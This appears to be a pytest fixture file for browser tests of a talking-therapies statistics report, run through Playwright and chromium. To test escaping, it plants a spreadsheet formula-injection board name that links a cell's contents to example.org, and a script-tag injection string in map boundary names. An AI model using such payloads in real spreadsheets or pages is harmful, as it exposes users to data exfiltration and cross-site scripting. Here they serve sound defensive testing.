"""The browser tier: Debian's chromium, two reports built from made releases, and a watch over every visit."""

from __future__ import annotations

import json
import os
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import pytest
from playwright.sync_api import Browser, sync_playwright

from iapt.contract import TOPICS, parquet_name
from iapt.report.serving import make_server
from iapt.report.site import build_report
from iapt.sql import quote_literal
from tests.browser.page_objects import BrowserSession, ContextPool, ReportPage, Site
from tests.browser.released_figures import ReleasedFigures, read_released_figures
from tests.factories.report_release import rewrite_table, write_report_release

NAMED_CHROMIUM = "IAPT_CHROMIUM"
FLAGS = (
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--disable-quic",
)
#: A board whose name a spreadsheet would run as a formula.
FORMULA_CODE = "QOQ"
FORMULA_NAME = '=HYPERLINK("https://example.org/?"&A1, "Humber")'
#: A board that the boundary file leaves out.
WITHOUT_BOUNDARY = "QWU"


@pytest.fixture(scope="session")
def chromium() -> str:
    """Where chromium is. A machine without it fails here: a tier that skips itself tests nothing."""
    named = os.environ.get(NAMED_CHROMIUM)
    found = named or next(
        (path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), None
    )
    if not found or not Path(found).exists():
        pytest.fail(
            f"no chromium{f' at {named}' if named else ''}: install it with `apt-get install chromium`, "
            f"or name one in {NAMED_CHROMIUM}",
            pytrace=False,
        )
    return found


@pytest.fixture(scope="session")
def browser(chromium: str) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=list(FLAGS))
        yield browser
        browser.close()


def assess_standards(release: Path) -> None:
    """Say beside the percentages of a made release how they stand to its standards: England is never within rounding.

    England is said to miss what it meets as shown, so that a page that works it out itself is found.
    """
    for measure, threshold in (
        ("percentage_recovery", 50),
        ("percentage_accessing_services_6_weeks_finished_course_treatment", 75),
    ):
        mart = next(mart for mart, measures in TOPICS.items() if measure in measures)
        rewrite_table(
            release,
            mart,
            f"""select * replace (
                  case when {measure}_status is distinct from 'published' then null
                       when org_level <> 'england' and {measure} = {threshold} then 'ambiguous'
                       when org_level = 'england' then if({measure} < {threshold}, 'met', 'missed')
                       else if({measure} < {threshold}, 'missed', 'met') end as {measure}_standard_status)
                from original""",
        )


def write_boundaries(path: Path, codes: list[str]) -> None:
    """Squares as boundaries: the nth board has ONS code E54000nnn."""
    features = []
    for number, code in enumerate(codes):
        west, south = -4 + number % 7 * 0.6, 50 + number // 7 * 0.7
        ring = [[west, south], [west + 0.5, south], [west + 0.5, south + 0.6], [west, south + 0.6], [west, south]]
        if code != WITHOUT_BOUNDARY:
            features.append(
                {
                    "type": "Feature",
                    "properties": {"ICB23CD": f"E54000{100 + number}", "ICB23NM": f'"><script>{code}</script>'},
                    "geometry": {"type": "Polygon", "coordinates": [ring]},
                }
            )
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")


def serve(folder: Path, release: Path) -> Iterator[Site]:
    server = make_server(folder, 0)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield Site(folder, release, f"http://127.0.0.1:{server.server_address[1]}")
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture(scope="session")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The report of the made release, with boundaries on its maps and a board of a name like a formula."""
    folder = tmp_path_factory.mktemp("report")
    release = write_report_release(folder / "release")
    with duckdb.connect() as connection:
        codes = [
            row[0]
            for row in connection.execute(
                f"select org_code from read_parquet('{release / parquet_name('dim_organisation')}') "
                "where org_level = 'icb' order by org_code"
            ).fetchall()
        ]
    assess_standards(release)
    ons = ", ".join(f"('{code}', 'E54000{100 + number}')" for number, code in enumerate(codes))
    rewrite_table(
        release,
        "dim_organisation",
        f"""select original.* replace (
              case when org_code = '{FORMULA_CODE}' then {quote_literal(FORMULA_NAME)} else org_name end as org_name,
              case when org_level = 'icb' then given.ons end as ons_code)
            from original left join (values {ons}) given(code, ons) on given.code = org_code""",
    )
    write_boundaries(folder / "boards.geojson", codes)
    build_report(release, folder / "site", boundaries=folder / "boards.geojson")
    yield from serve(folder / "site", release)


@pytest.fixture(scope="session")
def bare_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The report of a release without quarters, boundaries or a statement: what is not there must not break it."""
    folder = tmp_path_factory.mktemp("bare")
    release = write_report_release(folder / "release")
    for mart in TOPICS:
        rewrite_table(release, mart, "from original where period_grain <> 'quarter'")
    rewrite_table(release, "extract_quarterly", "from original where false")
    path = release / "manifest.json"
    manifest: dict[str, Any] = json.loads(path.read_text("utf-8"))
    path.write_text(json.dumps(manifest | {"statement": "", "data_origin": "published"}), encoding="utf-8")
    build_report(release, folder / "site")
    yield from serve(folder / "site", release)


@pytest.fixture(scope="session")
def figures(site: Site) -> ReleasedFigures:
    """What the release says, read without any code of the report."""
    return read_released_figures(site.release)


@pytest.fixture(scope="session")
def context_pool(browser: Browser) -> ContextPool:
    return ContextPool(browser)


@pytest.fixture
def session(context_pool: ContextPool, site: Site) -> Iterator[BrowserSession]:
    """Visits, over which is watched: no error, and no request that leaves the site."""
    session = BrowserSession(context_pool, site)
    yield session
    session.end()


@pytest.fixture(scope="session")
def parser(browser: Browser, site: Site) -> Iterator[ReportPage]:
    """An empty page whose only use is to parse the texts of others."""
    context = browser.new_context(java_script_enabled=False)
    yield ReportPage(context.new_page(), site, "file")
    context.close()
